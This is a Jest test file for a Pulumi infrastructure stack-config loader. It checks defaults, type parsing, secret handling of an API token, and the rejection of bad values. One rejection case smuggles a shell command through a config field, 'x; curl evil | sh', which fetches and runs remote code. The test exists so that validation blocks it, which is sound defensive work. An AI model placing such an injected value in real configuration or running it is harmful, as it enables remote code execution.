import * as pulumi from '@pulumi/pulumi';
import { CONFIG_DEFAULTS, loadStackConfig, StackConfigError } from '../src/stack-config';
import { PROJECT, useMocks, valueOf } from './pulumi-mocks';

function load(config: Record<string, string> = {}, secrets: Record<string, string> = {}) {
  useMocks(config, secrets);
  return loadStackConfig(new pulumi.Config(PROJECT));
}

describe('loadStackConfig', () => {
  it('applies the documented defaults', () => {
    const config = load();
    expect(config).toMatchObject({
      prefix: 'ccs',
      visibilityTimeoutSeconds: 900,
      serverVisibilityTimeoutSeconds: 60,
      maxReceiveCount: 5,
      snsKmsKeyId: 'alias/aws/sns',
      logRetentionDays: 30,
      logVersioning: false,
      nodeSecretArns: [],
    });
    expect(config.compute).toMatchObject({
      enabled: false,
      nodeCount: 1,
      allowedCidrs: [],
      apiPort: 8787,
      apiToken: undefined,
      amiId: undefined,
      subnetId: undefined,
      ssmAccess: true,
    });
    expect(config.logRetentionDays).toBe(CONFIG_DEFAULTS.logRetentionDays);
  });

  it('reads typed values (numbers, booleans, lists) from the stack config', () => {
    const config = load(
      {
        prefix: 'ccs-prod',
        logRetentionDays: '7',
        logVersioning: 'true',
        computeEnabled: 'true',
        nodeCount: '3',
        allowedCidrs: '["10.0.0.0/8","2001:db8::/32"]',
        amiId: 'ami-123',
      },
      { apiToken: 'abcdefghijklmnop-0123' },
    );
    expect(config.prefix).toBe('ccs-prod');
    expect(config.logRetentionDays).toBe(7);
    expect(config.logVersioning).toBe(true);
    expect(config.compute).toMatchObject({
      enabled: true,
      nodeCount: 3,
      allowedCidrs: ['10.0.0.0/8', '2001:db8::/32'],
      amiId: 'ami-123',
    });
  });

  it('keeps the API token secret', async () => {
    const config = load({}, { apiToken: 'abcdefghijklmnop-0123' });
    expect(config.compute.apiToken).toBeDefined();
    expect(await pulumi.isSecret(config.compute.apiToken as pulumi.Output<string>)).toBe(true);
    expect(await valueOf(config.compute.apiToken as pulumi.Output<string>)).toBe('abcdefghijklmnop-0123');
  });

  it.each([
    [{ prefix: 'CCS' }, /prefix/],
    [{ prefix: 'a'.repeat(31) }, /prefix/],
    [{ visibilityTimeoutSeconds: '50000' }, /visibilityTimeoutSeconds/],
    [{ maxReceiveCount: '0' }, /maxReceiveCount/],
    [{ logRetentionDays: '1.5' }, /logRetentionDays/],
    [{ allowedCidrs: '["everyone"]' }, /allowedCidrs/],
    [{ allowedCidrs: '"10.0.0.0/8"' }, /allowedCidrs/],
    [{ allowedCidrs: '["10.0.0.0/33"]' }, /allowedCidrs/],
    [{ allowedCidrs: '["10.0.0.0"]' }, /allowedCidrs/],
    [{ nodeSecretArns: '["*"]' }, /nodeSecretArns/],
    [{ packageSpec: 'x; curl evil | sh' }, /packageSpec/],
    [{ computeEnabled: 'true', allowedCidrs: '["10.0.0.0/8"]' }, /apiToken/],
  ])('rejects %j', (config, message) => {
    expect(() => load(config)).toThrow(StackConfigError);
    expect(() => load(config)).toThrow(message);
  });

  it('rejects a malformed token without echoing it', () => {
    const attempt = () => load({}, { apiToken: 'short "quoted"' });
    expect(attempt).toThrow(/apiToken/);
    let message = '';
    try {
      attempt();
    } catch (error) {
      message = (error as Error).message;
    }
    expect(message).not.toContain('quoted');
  });
});
